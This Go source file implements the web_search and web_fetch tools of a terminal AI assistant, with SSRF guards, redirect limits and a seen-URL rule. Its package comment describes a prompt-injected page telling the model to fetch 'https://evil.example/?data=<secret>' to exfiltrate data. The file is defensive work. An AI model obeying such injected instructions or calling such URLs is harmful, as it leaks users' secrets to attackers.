// Package web holds web_search (the Brave Search API) and web_fetch (one
// http or https page, turned into markdown when it is HTML).
//
// # Guards of web_fetch
//
//   - Only http and https; URLs with credentials (user:pass@) are refused.
//   - Private, loopback, link-local and cloud-metadata addresses are refused
//     after DNS resolution, in the dialer, for the first request and every
//     redirect (at most 5): the dialer resolves the name, checks each
//     address and connects to the checked address, and the socket's Control
//     hook checks again, so neither DNS rebinding nor a redirect gets
//     around it. Proxies from the environment are not used (the guard must
//     see the real address). web_allow_private lets private and loopback
//     ranges through; link-local, metadata (169.254.169.254, fd00:ec2::254,
//     100.100.100.200, ...), unspecified and multicast addresses are never
//     reached. Options.AllowAddrs lets exact address:port pairs through:
//     tests use it for their servers on 127.0.0.1; settings never set it.
//   - Exfiltration: a page read by the model may carry instructions to
//     fetch https://evil.example/?data=<secret>. So a URL runs without
//     asking only if it appeared in the user's messages (ObservePrompt) or
//     in an earlier web_search or web_fetch result of the session (the
//     result URLs, the final URL of a fetch, and the links in fetched
//     pages). Any other URL asks, showing the whole URL. URLs are compared
//     exactly after normalisation (scheme and host lower-cased, default port
//     and fragment dropped), so adding a query string to a seen URL asks.
//
// A fetched page is untrusted content: "web HOST/PATH", public; one from
// the local network (an intranet name, or a private address that
// web_allow_private let through) is "intranet HOST/PATH", private too.
//
// web_search runs without asking: the query goes only to the Brave
// endpoint the user configured, which a prompt-injected page cannot read;
// the leak that remains (a query carrying data to Brave) is not one an
// attacker can collect. The search endpoint is the user's own setting, so
// it is not behind the address guard (tests serve it on 127.0.0.1).
//
// Per-session state (the seen URLs) lives in the Session value. A Session
// is safe for concurrent use.
package web

import (
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/co-cli/co/journal"
	"github.com/co-cli/co/lib/redact"
	"github.com/co-cli/co/tools"
)

// Options configures a Session.
type Options struct {
	// BraveAPIKey is brave_search_api_key; empty: web_search is not offered.
	BraveAPIKey string
	// BraveBaseURL is brave_search_base_url (default
	// https://api.search.brave.com/res/v1).
	BraveBaseURL string
	// AllowPrivate is web_allow_private: let web_fetch reach private and
	// loopback addresses.
	AllowPrivate bool
	// AllowAddrs are exact addresses web_fetch may reach whatever the
	// guard says: for tests serving pages on loopback. Never from settings.
	AllowAddrs []netip.AddrPort
	// Timeout bounds one fetch or search, redirects included (default 30s).
	Timeout time.Duration
	// MaxBytes caps the body read by web_fetch (default 5 MB).
	MaxBytes int64
	// Resolve replaces DNS lookups of web_fetch (tests).
	Resolve func(ctx context.Context, host string) ([]netip.Addr, error)
}

// Defaults.
const (
	DefaultBraveBaseURL = "https://api.search.brave.com/res/v1"
	DefaultTimeout      = 30 * time.Second
	DefaultMaxBytes     = 5 << 20
	MaxRedirects        = 5
	DefaultMaxChars     = 20000
	MaxMaxChars         = 100000
	DefaultCount        = 5
	MaxCount            = 20
	maxSeen             = 20000
	userAgent           = "co/0.1 (terminal assistant; +https://github.com/co-cli/co)"
)

// Session is the web tools of one chat session.
type Session struct {
	opts   Options
	guard  guard
	fetch  *http.Client
	search *http.Client

	mu   sync.Mutex
	seen map[string]bool
	// user are the URLs the user wrote and hosts their hosts: a URL the
	// user gave runs as given whatever the conversation holds; a host the
	// user named may be browsed after untrusted content until private data
	// is in the conversation (tools.Outbound).
	user  map[string]bool
	hosts map[string]bool
}

// New makes the web tools' session state.
func New(o Options) *Session {
	if o.BraveBaseURL == "" {
		o.BraveBaseURL = DefaultBraveBaseURL
	}
	if o.Timeout <= 0 {
		o.Timeout = DefaultTimeout
	}
	if o.MaxBytes <= 0 {
		o.MaxBytes = DefaultMaxBytes
	}
	g := guard{allowPrivate: o.AllowPrivate, allowAddrs: map[netip.AddrPort]bool{}}
	for _, a := range o.AllowAddrs {
		g.allowAddrs[a] = true
	}
	dl := newDialer(g, o.Timeout, o.Resolve)
	tr := &http.Transport{
		Proxy:                 nil, // the guard must see the real address
		DialContext:           dl.DialContext,
		TLSHandshakeTimeout:   10 * time.Second,
		ResponseHeaderTimeout: o.Timeout,
		MaxIdleConns:          10,
		IdleConnTimeout:       30 * time.Second,
		ForceAttemptHTTP2:     true,
	}
	s := &Session{opts: o, guard: g, seen: map[string]bool{}, user: map[string]bool{}, hosts: map[string]bool{}}
	s.fetch = &http.Client{Transport: tr, Timeout: o.Timeout, CheckRedirect: checkRedirect}
	s.search = &http.Client{Timeout: o.Timeout}
	return s
}

// Tools are web_fetch, and web_search when a Brave key is set.
func (s *Session) Tools() []tools.Tool {
	ts := []tools.Tool{}
	if s.opts.BraveAPIKey != "" {
		ts = append(ts, s.SearchTool())
	}
	return append(ts, s.FetchTool())
}

// SearchTool is web_search.
func (s *Session) SearchTool() tools.Tool { return &Search{s} }

// FetchTool is web_fetch.
func (s *Session) FetchTool() tools.Tool { return &Fetch{s} }

// checkRedirect allows at most MaxRedirects hops, each to http or https
// without credentials. The dialer checks each hop's address.
func checkRedirect(req *http.Request, via []*http.Request) error {
	if len(via) > MaxRedirects {
		return &redirectError{fmt.Sprintf("stopped after %d redirects", MaxRedirects)}
	}
	if err := validURL(req.URL); err != nil {
		return &redirectError{"a redirect went to a refused URL: " + err.Error()}
	}
	return nil
}

type redirectError struct{ msg string }

func (e *redirectError) Error() string { return e.msg }

// validURL says why u may not be fetched, or nil.
func validURL(u *url.URL) error {
	switch {
	case u.Scheme != "http" && u.Scheme != "https":
		return fmt.Errorf("only http and https URLs are fetched, not %q", u.Scheme+":")
	case u.User != nil:
		return fmt.Errorf("URLs with credentials (user:password@) are refused")
	case u.Hostname() == "":
		return fmt.Errorf("the URL has no host")
	}
	return nil
}

// parse reads a URL given by the model.
func parse(raw string) (*url.URL, error) {
	raw = strings.TrimSpace(raw)
	if raw == "" {
		return nil, tools.Retryf("url is empty: give an http or https URL")
	}
	u, err := url.Parse(raw)
	if err != nil {
		return nil, tools.Retryf("url %q is not a valid URL: %v", raw, err)
	}
	u.Scheme = strings.ToLower(u.Scheme)
	if err := validURL(u); err != nil {
		return nil, tools.Retryf("url %q is refused: %v", raw, err)
	}
	return u, nil
}

// normalize is the form URLs are compared in: scheme and host lower-cased,
// default port, fragment and a lone trailing "?" dropped, empty path "/".
func normalize(u *url.URL) string {
	n := *u
	n.Scheme = strings.ToLower(n.Scheme)
	host := strings.ToLower(n.Hostname())
	port := n.Port()
	if (n.Scheme == "http" && port == "80") || (n.Scheme == "https" && port == "443") {
		port = ""
	}
	if strings.Contains(host, ":") {
		host = "[" + host + "]"
	}
	if port != "" {
		host += ":" + port
	}
	n.Host = host
	n.Fragment, n.RawFragment = "", ""
	n.ForceQuery = false
	if n.Path == "" && n.RawPath == "" {
		n.Path = "/"
	}
	return n.String()
}

// urlPattern finds http(s) URLs in text; bareDomain finds scheme-less ones
// such as example.com/page (the user often types those). Compiled on first
// use: every co process links this package (TestOwnPackagesInitialiseLightly).
var (
	urlPattern = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile(`(?i)\bhttps?://[^\s<>"'\x60\[\]{}|\\^]+`)
	})
	bareDomain = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile(`(?i)(?:^|[\s(<"'])((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,63}(?::\d{1,5})?(?:/[^\s<>"'\x60]*)?)`)
	})
)

// extractURLs returns the URLs in text, trimmed of trailing punctuation.
// With bare, scheme-less domains count too (as https and http).
func extractURLs(text string, bare bool) []string {
	var out []string
	for _, m := range urlPattern().FindAllString(text, -1) {
		out = append(out, trimURL(m))
	}
	if bare {
		for _, m := range bareDomain().FindAllStringSubmatchIndex(text, -1) {
			start := m[2]
			if start >= 3 && strings.HasSuffix(text[:start], "://") {
				continue // part of a URL with a scheme, found above
			}
			if start > 0 && text[start-1] == '@' {
				continue
			}
			d := trimURL(text[m[2]:m[3]])
			out = append(out, "https://"+d, "http://"+d)
		}
	}
	return out
}

func trimURL(s string) string {
	for s != "" {
		last := s[len(s)-1]
		switch {
		case strings.IndexByte(".,;:!?'\"", last) >= 0:
			s = s[:len(s)-1]
		case last == ')' && strings.Count(s, "(") < strings.Count(s, ")"):
			s = s[:len(s)-1]
		default:
			return s
		}
	}
	return s
}

// Observe records the URLs in text (the user's words) as seen.
func (s *Session) Observe(text string) { s.record(extractURLs(text, true), true) }

// record marks urls as seen. Results stop adding once the set is full; the
// user's own URLs are always added.
func (s *Session) record(urls []string, fromUser bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, raw := range urls {
		u, err := url.Parse(raw)
		if err != nil || validURL(u) != nil {
			continue
		}
		if len(s.seen) >= maxSeen && !fromUser {
			return
		}
		n := normalize(u)
		s.seen[n] = true
		if fromUser && len(s.user) < maxSeen {
			s.user[n] = true
			s.hosts[strings.ToLower(u.Hostname())] = true
		}
	}
}

// outbound is what a fetch of u sends, for the rule on calls after
// untrusted content: exactly a URL the user gave, or one on a host the
// user named, or any other.
func (s *Session) outbound(u *url.URL) *tools.Outbound {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := normalize(u)
	return &tools.Outbound{To: "GET " + u.String(), Exact: s.user[n], UserHost: s.hosts[strings.ToLower(u.Hostname())]}
}

// pageOrigin names a fetched page as a source, without the query (the
// question shows the whole URL of a request): "web host/path", untrusted
// and public; "intranet host/path" when it came from the local network
// (intranet), untrusted like any page (an intranet wiki is written by
// many) and private (what it holds is the organisation's, not the
// world's).
func pageOrigin(u *url.URL, intranet bool) tools.Origin {
	if intranet {
		return tools.UntrustedPrivate("web", "intranet "+u.Host+u.EscapedPath())
	}
	return tools.UntrustedPublic("web", "web "+u.Host+u.EscapedPath())
}

// intranet says whether a fetch of u that connected to addrs read the
// local network: a host name of the kind only a local network resolves
// (intranetName), or a connection to a private address that
// web_allow_private let through. Loopback is not counted (see
// docs/untrusted-content.md, "What it does not stop"); nor are the exact addresses of
// Options.AllowAddrs, which tests use to stand in for the internet.
func (s *Session) intranet(u *url.URL, addrs []netip.AddrPort) bool {
	if intranetName(u.Hostname()) {
		return true
	}
	for _, a := range addrs {
		if s.guard.allowAddrs[a] || s.guard.allowAddrs[netip.AddrPortFrom(a.Addr().Unmap(), a.Port())] {
			continue
		}
		closed := guard{} // the same ranges, with web_allow_private off
		if e := closed.check(a.Addr().String(), a.Addr(), a.Port()); e != nil && e.Private && e.Why != "loopback" {
			return true
		}
	}
	return false
}

// intranetName says whether host is a name only a local network resolves:
// a single label (ICANN lets no top-level domain resolve alone: "dotless
// domains", SAC053), .local (mDNS, RFC 6762), .home.arpa (RFC 8375),
// .internal (reserved for private use by ICANN, 2024), or the suffixes RFC
// 6762 Appendix G lists as used on private networks (.intranet, .private,
// .corp, .home, .lan). localhost is loopback (see intranet).
func intranetName(host string) bool {
	h := strings.TrimSuffix(strings.ToLower(host), ".")
	if _, err := netip.ParseAddr(h); err == nil || h == "" {
		return false
	}
	if h == "localhost" || strings.HasSuffix(h, ".localhost") {
		return false
	}
	if !strings.Contains(h, ".") {
		return true
	}
	for _, suffix := range []string{".local", ".home.arpa", ".internal", ".intranet", ".private", ".corp", ".home", ".lan"} {
		if strings.HasSuffix(h, suffix) {
			return true
		}
	}
	return false
}

// Seen reports whether u (normalised) came from the user or an earlier
// result. Since results are untrusted content, a URL seen only in them asks
// once they are in the conversation (unless on a host the user named, while
// no private data is there): see tools.Outbound.
func (s *Session) Seen(u *url.URL) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.seen[normalize(u)]
}

// maxWhat bounds what a journal entry of a request says.
const maxWhat = 200

// journalled records a request a server received in the turn's journal:
// undo lists it as what cannot be called back. what is cut and has no
// secret in it (the API key, key and token shapes, as the span store
// redacts).
func (s *Session) journalled(ctx context.Context, tool, what string) {
	what = redact.NewRedactor([]string{s.opts.BraveAPIKey}).String(what)
	if cut := tools.CutRunes(what, maxWhat); cut != what {
		what = cut + "…"
	}
	if _, err := journal.RecordIn(ctx, journal.NotUndoable(0, tool, journal.WebRequest, what, journal.WhyWeb)); err != nil {
		tools.Notify(ctx, "co could not record the web request for undo's list: "+err.Error())
	}
}
